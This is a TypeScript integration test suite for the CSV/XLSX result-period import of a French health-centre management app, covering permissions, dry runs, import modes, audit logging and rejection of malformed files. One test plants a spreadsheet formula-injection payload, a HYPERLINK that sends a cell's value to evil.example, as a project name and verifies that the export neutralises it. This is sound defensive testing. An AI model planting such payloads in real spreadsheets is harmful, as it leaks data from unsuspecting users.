/**
 * Import of result periods from CSV/XLSX over real HTTP (GET /results/import/template, POST /results/import) on a
 * real database: files are built in the test (CSV text, XLSX workbooks written with ExcelJS), expected outputs come
 * from a direct `evaluatePeriod` call, never hard-coded.
 */
import { DEMO_IDS } from "@maillage/db/seed";
import { DEFAULT_RESULTS_REFERENCE_DATA as REF, evaluatePeriod, type Programme } from "@maillage/domain";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { readSpreadsheet } from "../../src/common/spreadsheet.js";
import { startTestApp, type GqlClient, type TestApp } from "./harness.js";

const PREFLIGHT = { "apollo-require-preflight": "true" };
const NA = DEMO_IDS.federations.nouvelleAquitaine;

type Report = {
  dryRun: boolean;
  mode: string;
  accepted: number;
  rejected: number;
  imported: number;
  lines: { line: number; status: "OK" | "REJECTED"; projectName: string | null; year: number | null; errors: { column: string | null; message: string }[] }[];
};
type Answer = { status: number; body: Report & { error?: { code: string; message: string; details?: unknown[] } } };

async function upload(
  t: TestApp,
  who: GqlClient | null,
  params: { programme: string; mode?: string; dryRun?: boolean },
  file: { name: string; bytes: Uint8Array } | null,
  headers: Record<string, string> = PREFLIGHT,
): Promise<Answer> {
  const form = new FormData();
  if (file) form.append("file", new Blob([file.bytes]), file.name);
  const q = new URLSearchParams({ programme: params.programme, mode: params.mode ?? "ALL_OR_NOTHING", dryRun: String(params.dryRun ?? false) });
  const res = await fetch(`${t.url}/results/import?${q}`, { method: "POST", headers: { ...(who?.cookie ? { cookie: who.cookie } : {}), ...headers }, body: form });
  return { status: res.status, body: (await res.json()) as Answer["body"] };
}

async function template(t: TestApp, who: GqlClient | null, programme: string, format: string) {
  const res = await fetch(`${t.url}/results/import/template?programme=${programme}&format=${format}`, { headers: who?.cookie ? { cookie: who.cookie } : {} });
  return { status: res.status, headers: res.headers, bytes: Buffer.from(await res.arrayBuffer()) };
}

/** A French Excel CSV: BOM, `;`, CRLF. */
const csv = (rows: string[][]): Uint8Array => Buffer.from(`\uFEFF${rows.map((r) => r.join(";")).join("\r\n")}\r\n`, "utf8");

const IPEP_HEADERS = [
  "Identifiant MSP",
  "Nom de la MSP",
  "Année",
  "Paramètres IPEP",
  "Groupement",
  "Patients",
  "Gain sur le niveau (€/patient)",
  "Gain sur l'évolution (€/patient)",
  "Points indicateurs socles",
  "Points indicateurs à la carte",
  "Points expérience patient",
  "Intéressement reçu (€)",
];
const ipepRow = (projectId: string, year: number, patients = "5 000", gain = "30,5"): string[] => [
  projectId,
  "ignoré",
  String(year),
  "IPEP_2022",
  "Groupement test",
  patients,
  gain,
  "12",
  "60",
  "0",
  "10",
  "",
];
/** The inputs the row above stands for, for a direct evaluatePeriod. */
const ipepInputs = (patients: number, gain: number) => ({
  parametersId: "IPEP_2022",
  groupement: "Groupement test",
  patients,
  gainLevelPerPatientEur: gain,
  gainEvolutionPerPatientEur: 12,
  soclePoints: 60,
  aLaCartePoints: 0,
  patientExperiencePoints: 10,
  qualityIndicators: [],
  incentiveReceivedEur: null,
});

describe("import of result periods (CSV / XLSX)", () => {
  let t: TestApp;
  let charge: GqlClient;
  let admin: GqlClient;
  const prisma = () => t.running.database.prisma;
  /** Three running MSPs of the Nouvelle-Aquitaine federation. */
  let projects: { id: string; name: string }[];
  /** A year without any period of `programme` for the project. */
  const freeYear = async (projectId: string, programme: Programme, not: number[] = []): Promise<number> => {
    const used = new Set((await prisma().resultPeriod.findMany({ where: { projectId, programme }, select: { year: true } })).map((p) => p.year));
    for (let y = 2015; y <= 2025; y++) if (!used.has(y) && !not.includes(y)) return y;
    throw new Error("no free year");
  };
  const counts = async () => ({
    periods: await prisma().resultPeriod.count(),
    audits: await prisma().auditEvent.count({ where: { action: "results.import" } }),
  });

  beforeAll(async () => {
    t = await startTestApp();
    [charge, admin] = await Promise.all([t.as("charge@demo.maillage.fr"), t.as("admin@demo.maillage.fr")]);
    projects = await prisma().mspProject.findMany({
      where: { federationId: NA, stage: { in: ["SIGNATURE_ACI", "EN_FONCTIONNEMENT"] } },
      select: { id: true, name: true },
      orderBy: { id: "asc" },
      take: 3,
    });
    expect(projects).toHaveLength(3);
  }, 120_000);

  afterAll(async () => {
    await t?.close();
  });

  it("serves the template as CSV and XLSX, pre-filled with the federation's reporting MSPs only, formulas neutralised", async () => {
    const target = projects[2];
    if (!target) throw new Error("no project");
    const evil = '=HYPERLINK("http://evil.example/?x="&A1;"clic")';
    await prisma().mspProject.update({ where: { id: target.id }, data: { name: evil } });
    try {
      const reporting = await prisma().mspProject.findMany({
        where: { federationId: NA, stage: { in: ["SIGNATURE_ACI", "EN_FONCTIONNEMENT"] }, status: { not: "ABANDONED" } },
        select: { id: true },
      });
      const asCsv = await template(t, charge, "IPEP", "csv");
      expect(asCsv.status).toBe(200);
      expect(asCsv.headers.get("content-type")).toBe("text/csv; charset=utf-8");
      expect(asCsv.headers.get("content-disposition")).toMatch(/attachment; filename="modele-import-ipep\.csv"/);
      const text = asCsv.bytes.toString("utf8");
      expect(text.startsWith("\uFEFFIdentifiant MSP;Nom de la MSP;Année;Paramètres IPEP")).toBe(true);
      expect(text).toContain(`"'=HYPERLINK(`);
      expect(text).not.toMatch(/(^|;|\n)"?=HYPERLINK/);
      const table = await readSpreadsheet(asCsv.bytes, "modele.csv");
      expect(new Set(table.rows.map((r) => r[0]))).toEqual(new Set(reporting.map((p) => p.id)));
      expect(table.rows.every((r) => r[3] === "IPEP_2022")).toBe(true);
      expect(table.rows.map((r) => r[0])).not.toContain(DEMO_IDS.projects.msp2);

      const asXlsx = await template(t, charge, "ACI", "xlsx");
      expect(asXlsx.status).toBe(200);
      expect(asXlsx.headers.get("content-type")).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(asXlsx.bytes as unknown as ArrayBuffer);
      const sheet = wb.worksheets[0];
      expect(sheet?.getCell("A1").value).toBe("Identifiant MSP");
      expect(sheet?.getCell("A1").font?.bold).toBe(true);
      const names: unknown[] = [];
      sheet?.eachRow((row, n) => n > 1 && names.push(row.getCell(2).value));
      expect(names).toContain(`'${evil}`);
      expect(names.some((n) => typeof n === "string" && n.startsWith("="))).toBe(false);
    } finally {
      await prisma().mspProject.update({ where: { id: target.id }, data: { name: target.name } });
    }
  });

  it("refuses the template and the import to MSP members, researchers and anonymous callers", async () => {
    const [msp, researcher] = await Promise.all([t.as("msp@demo.maillage.fr"), t.as("chercheur@demo.maillage.fr")]);
    const file = { name: "import.csv", bytes: csv([IPEP_HEADERS, ipepRow(DEMO_IDS.projects.msp, 2020)]) };
    const before = await counts();
    for (const [who, status, code] of [
      [msp, 403, "FORBIDDEN"],
      [researcher, 403, "FORBIDDEN"],
      [null, 401, "UNAUTHENTICATED"],
    ] as const) {
      expect((await template(t, who, "IPEP", "csv")).status).toBe(status);
      const r = await upload(t, who, { programme: "IPEP", mode: "VALID_ROWS" }, file);
      expect([r.status, r.body.error?.code]).toEqual([status, code]);
    }
    expect(await counts()).toEqual(before);
  });

  it("dry run reports every line and changes nothing; ALL_OR_NOTHING imports nothing when a line is rejected", async () => {
    const [a, b] = projects;
    if (!a || !b) throw new Error("no project");
    const ya = await freeYear(a.id, "IPEP");
    const yb = await freeYear(b.id, "IPEP");
    const file = { name: "ipep.csv", bytes: csv([IPEP_HEADERS, ipepRow(a.id, ya), ipepRow(b.id, yb), ipepRow(b.id, yb, "beaucoup")]) };
    const before = await counts();

    const dry = await upload(t, charge, { programme: "IPEP", mode: "VALID_ROWS", dryRun: true }, file);
    expect(dry.status).toBe(200);
    expect(dry.body).toMatchObject({ dryRun: true, mode: "VALID_ROWS", accepted: 1, rejected: 2, imported: 0 });
    expect(dry.body.lines).toEqual([
      { line: 2, status: "OK", projectName: a.name, year: ya, errors: [] },
      { line: 3, status: "REJECTED", projectName: b.name, year: yb, errors: [{ column: "Année", message: "Période en double : même MSP et même année qu'à la ligne 4." }] },
      {
        line: 4,
        status: "REJECTED",
        projectName: b.name,
        year: yb,
        errors: [
          { column: "Année", message: "Période en double : même MSP et même année qu'à la ligne 3." },
          { column: "Patients", message: "« beaucoup » n'est pas un nombre lisible (exemple : 1 234,5)." },
        ],
      },
    ]);
    expect(await counts()).toEqual(before);

    const all = await upload(t, charge, { programme: "IPEP", mode: "ALL_OR_NOTHING" }, file);
    expect(all.status).toBe(200);
    expect(all.body).toMatchObject({ dryRun: false, accepted: 1, rejected: 2, imported: 0 });
    const after = await counts();
    expect(after.periods).toBe(before.periods);
    // Only the summary event of the attempt.
    expect(after.audits).toBe(before.audits + 1);
  });

  it("VALID_ROWS writes the valid periods with their computed outputs, an audit event each and a summary, and updates drafts", async () => {
    const [a, b] = projects;
    if (!a || !b) throw new Error("no project");
    const ya = await freeYear(a.id, "IPEP");
    const yb = await freeYear(b.id, "IPEP");
    const file = { name: "ipep.csv", bytes: csv([IPEP_HEADERS, ipepRow(a.id, ya), ipepRow(b.id, yb, "4 000", "-3"), ipepRow(a.id, 2099)]) };
    const before = await counts();
    const r = await upload(t, admin, { programme: "IPEP", mode: "VALID_ROWS" }, file);
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ accepted: 2, rejected: 1, imported: 2 });
    expect(r.body.lines[2]).toMatchObject({ line: 4, status: "REJECTED", errors: [{ column: "Année", message: "L'année de la période ne peut pas être dans le futur." }] });

    const stored = await prisma().resultPeriod.findUniqueOrThrow({ where: { projectId_programme_year: { projectId: a.id, programme: "IPEP", year: ya } } });
    const expected = evaluatePeriod("IPEP", ya, ipepInputs(5000, 30.5), REF);
    if (!expected.ok) throw new Error("fixture invalid");
    expect(stored).toMatchObject({ status: "DRAFT", federationId: NA, ruleSetId: expected.value.referenceId });
    expect(stored.inputs).toEqual(JSON.parse(JSON.stringify(expected.value.inputs)));
    expect(stored.outputs).toEqual(JSON.parse(JSON.stringify(expected.value.outputs)));
    const after = await counts();
    expect(after.periods).toBe(before.periods + 2);
    expect(after.audits).toBe(before.audits + 3);
    const event = await prisma().auditEvent.findFirstOrThrow({ where: { action: "results.import", targetId: stored.id } });
    expect(event).toMatchObject({ projectId: a.id, targetType: "ResultPeriod" });
    expect(event.summary).toMatchObject({ programme: "IPEP", year: ya, created: true, lines: [2] });

    // Again with other figures: the draft is updated in place.
    const again = await upload(t, charge, { programme: "IPEP", mode: "VALID_ROWS" }, { name: "ipep.csv", bytes: csv([IPEP_HEADERS, ipepRow(a.id, ya, "6 000")]) });
    expect(again.body).toMatchObject({ accepted: 1, rejected: 0, imported: 1 });
    const updated = await prisma().resultPeriod.findUniqueOrThrow({ where: { id: stored.id } });
    expect((updated.inputs as { patients: number }).patients).toBe(6000);
    expect(await prisma().resultPeriod.count()).toBe(after.periods);
  });

  it("refuses submitted and approved periods, and MSPs of another federation, as rejected lines", async () => {
    const [, , c] = projects;
    if (!c) throw new Error("no project");
    const ySubmitted = await freeYear(c.id, "IPEP");
    const yApproved = await freeYear(c.id, "IPEP", [ySubmitted]);
    for (const [year, status] of [
      [ySubmitted, "SUBMITTED"],
      [yApproved, "APPROVED"],
    ] as const) {
      await prisma().resultPeriod.create({ data: { federationId: NA, projectId: c.id, programme: "IPEP", year, status, inputs: { kept: true } } });
    }
    const other = DEMO_IDS.projects.msp2;
    const before = await counts();
    const r = await upload(
      t,
      charge,
      { programme: "IPEP", mode: "VALID_ROWS" },
      { name: "ipep.csv", bytes: csv([IPEP_HEADERS, ipepRow(c.id, ySubmitted), ipepRow(c.id, yApproved), ipepRow(other, 2020), ipepRow("pas-un-uuid", 2020)]) },
    );
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ accepted: 0, rejected: 4, imported: 0 });
    expect(r.body.lines.map((l) => [l.line, l.projectName, l.errors])).toEqual([
      [2, c.name, [{ column: "Année", message: "Période transmise ou validée : non modifiable." }]],
      [3, c.name, [{ column: "Année", message: "Période transmise ou validée : non modifiable." }]],
      [4, null, [{ column: "Identifiant MSP", message: "MSP inconnue : vérifiez l'identifiant (celui du modèle téléchargé)." }]],
      [5, null, [{ column: "Identifiant MSP", message: "MSP inconnue : vérifiez l'identifiant (celui du modèle téléchargé)." }]],
    ]);
    const kept = await prisma().resultPeriod.findMany({ where: { projectId: c.id, programme: "IPEP", year: { in: [ySubmitted, yApproved] } } });
    expect(kept.map((p) => p.inputs)).toEqual([{ kept: true }, { kept: true }]);
    expect((await counts()).periods).toBe(before.periods);
  });

  it("imports a PEPS workbook (XLSX) in long format: lines of one MSP and year form one period", async () => {
    const [a] = projects;
    if (!a) throw new Error("no project");
    const year = await freeYear(a.id, "PEPS");
    const wb = new ExcelJS.Workbook();
    const s = wb.addWorksheet("Périodes");
    s.addRow(["Identifiant MSP", "Année", "Table PEPS", "Périmètre", "Jours dans le périmètre", "Score qualité (%)", "Forfait reçu (€)", "Équivalent paiement à l'acte (€)", "Tranche d'âge", "Sexe", "Nombre d'ALD", "Précarité (C2S/AME)", "Patients", "Indicateur : Vaccination antigrippale (%)"]);
    s.addRow([a.id, year, "PEPS_ILLUSTRATIF", "Patientèle médecin traitant", 300, 0.7, 150000.5, 140000, "16-44", "F", 0, "Non", 700, 58]);
    s.addRow([a.id, year, "PEPS_ILLUSTRATIF", null, null, null, null, null, "75-84", "M", 1, "Oui", 500, null]);
    s.getCell("F2").numFmt = "0%";
    const bytes = Buffer.from((await wb.xlsx.writeBuffer()) as ArrayBuffer);
    const r = await upload(t, charge, { programme: "PEPS", mode: "ALL_OR_NOTHING" }, { name: "peps.xlsx", bytes });
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ accepted: 2, rejected: 0, imported: 1 });
    const stored = await prisma().resultPeriod.findUniqueOrThrow({ where: { projectId_programme_year: { projectId: a.id, programme: "PEPS", year } } });
    const days = year % 4 === 0 ? 366 : 365;
    const expected = evaluatePeriod(
      "PEPS",
      year,
      {
        tableId: "PEPS_ILLUSTRATIF",
        scope: "PATIENTELE_MT",
        patientele: 1200,
        groups: [
          { ageBand: "16-44", sex: "F", aldCount: 0, precarite: false, patients: 700 },
          { ageBand: "75-84", sex: "M", aldCount: 1, precarite: true, patients: 500 },
        ],
        daysInScope: 300,
        daysInPeriod: days,
        qualityScore: 0.7,
        qualityIndicators: [{ code: "VACCINATION_ANTIGRIPPALE", label: "Vaccination antigrippale", value: 58 }],
        forfaitReceivedEur: 150000.5,
        feeForServiceEquivalentEur: 140000,
        internalSplit: [],
      },
      REF,
    );
    if (!expected.ok) throw new Error(JSON.stringify(expected.error));
    expect(stored.outputs).toEqual(JSON.parse(JSON.stringify(expected.value.outputs)));
  });

  it("refuses bad files with 400, 413 or 415 and a French message, changing nothing", async () => {
    const before = await counts();
    const cases: [{ name: string; bytes: Uint8Array } | null, number, string, RegExp][] = [
      [{ name: "vide.csv", bytes: new Uint8Array(0) }, 400, "BAD_USER_INPUT", /vide/],
      [{ name: "titres.csv", bytes: csv([["Identifiant MSP", "Année", "Couleur"], ["x", "2020", "bleu"]]) }, 400, "BAD_USER_INPUT", /Colonne inconnue : « Couleur »/],
      [{ name: "titres.csv", bytes: csv([IPEP_HEADERS]) }, 400, "BAD_USER_INPUT", /aucune ligne à importer/],
      [{ name: "vieux.xls", bytes: Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(1024)]) }, 415, "FILE_TYPE_NOT_ALLOWED", /97-2003/],
      [{ name: "image.xlsx", bytes: Buffer.from("GIF89a pas un tableur") }, 415, "FILE_TYPE_NOT_ALLOWED", /ni un CSV ni un classeur XLSX/],
      [{ name: "gros.csv", bytes: Buffer.alloc(5 * 1024 * 1024 + 10, 0x41) }, 413, "FILE_TOO_LARGE", /taille maximale de 5 Mo/],
      [null, 400, "BAD_USER_INPUT", /Aucun fichier reçu/],
    ];
    for (const [file, status, code, message] of cases) {
      const r = await upload(t, charge, { programme: "IPEP" }, file);
      expect([file?.name, r.status, r.body.error?.code]).toEqual([file?.name, status, code]);
      expect(r.body.error?.message).toMatch(message);
    }
    const noCsrf = await upload(t, charge, { programme: "IPEP" }, { name: "x.csv", bytes: csv([IPEP_HEADERS]) }, {});
    expect([noCsrf.status, noCsrf.body.error?.code]).toEqual([400, "CSRF_PREVENTED"]);
    const notMultipart = await fetch(`${t.url}/results/import?programme=IPEP`, {
      method: "POST",
      headers: { cookie: charge.cookie ?? "", "content-type": "application/octet-stream", ...PREFLIGHT },
      body: "x",
    });
    expect(notMultipart.status).toBe(400);
    const badProgramme = await upload(t, charge, { programme: "ROSP" }, { name: "x.csv", bytes: csv([IPEP_HEADERS]) });
    expect(badProgramme.status).toBe(400);
    expect(await counts()).toEqual(before);
  });
});
